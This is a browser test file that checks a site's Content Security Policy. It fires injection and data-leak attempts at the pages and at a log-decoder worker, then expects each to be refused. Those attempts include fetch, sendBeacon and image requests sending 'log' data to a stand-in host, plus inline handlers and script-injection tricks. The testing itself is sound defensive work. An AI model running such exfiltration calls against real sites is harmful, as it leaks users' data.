import { expect, test } from 'vitest';
import { useBrowser } from './use-browser.ts';

const { open } = useBrowser();
const refused = /Content Security Policy|Trusted|other\.example/;

test.each(['en/tencent-im/6206/', 'tencent-im/6206/?lang', '404.html'])(
  'nothing that gets into the page %s runs there, or sends anything to another site',
  async (path) => {
    // The permalink stays, because no script of a file runs.
    const scripts = path.startsWith('tencent') ? 'empty' : 'run';
    const page = await open(path, { scripts, worker: 'runs', provokes: refused });
    const directives = await page.evaluate(async () => {
      const found: string[] = [];
      const attempts: [string, () => unknown][] = [
        ['img-src', () => (new Image().src = 'https://other.example/?log')],
        ['connect-src', () => fetch('https://other.example/', { method: 'POST', body: 'log' })],
        ['connect-src', () => navigator.sendBeacon('https://other.example/', 'log')],
        ['require-trusted-types-for', () => append('script', { src: 'data:text/javascript,0' })],
        ['style-src-elem', () => append('style', {}, 'body { display: none }')],
        ['style-src-attr', () => append('p', { style: 'color: red' })],
        ['frame-src', () => append('iframe', { src: 'https://other.example/' })],
        ['base-uri', () => append('base', { href: 'https://other.example/' })],
        ['require-trusted-types-for', () => (document.body.innerHTML += '<img onerror=0>')],
        ['require-trusted-types-for', () => document.body.setAttribute('onclick', 'void 0')],
        ['require-trusted-types-for', () => new Function('')],
        ['require-trusted-types-for', () => new Worker(URL.createObjectURL(new Blob(['0'])))],
        ['require-trusted-types-for', () => new Worker('/another-project/worker.js')],
      ];
      for (const [directive, attempt] of attempts) {
        const violated = new Promise<string>((resolve) =>
          document.addEventListener(
            'securitypolicyviolation',
            ({ effectiveDirective }) => resolve(effectiveDirective),
            { once: true },
          ),
        );
        // What throws was refused before it was asked for; the event says by which rule.
        void Promise.resolve()
          .then(attempt)
          .catch(() => undefined);
        const rule = await violated;
        found.push(rule === directive ? 'refused' : `${directive} was refused by ${rule}`);
      }
      return found;

      function append(name: string, attributes: Record<string, string>, text = ''): void {
        const element = document.createElement(name);
        element.textContent = text;
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.head.append(element);
      }
    });
    expect(directives).toEqual(directives.map(() => 'refused'));
  },
);

test('the decoder’s worker, which reads the log, sends nothing to another site either', async () => {
  const page = await open('en/decode/', { worker: 'runs', provokes: refused });
  const started = page.waitForEvent('worker');
  await page.locator('textarea#log').fill('code: 6206');
  await page.locator('#decoded a').first().waitFor();
  const rule = await (
    await started
  ).evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', (event) => {
          resolve((event as SecurityPolicyViolationEvent).effectiveDirective);
        });
        fetch('https://other.example/', { method: 'POST', body: 'log' }).catch(() => undefined);
      }),
  );
  expect(rule).toBe('connect-src');
});
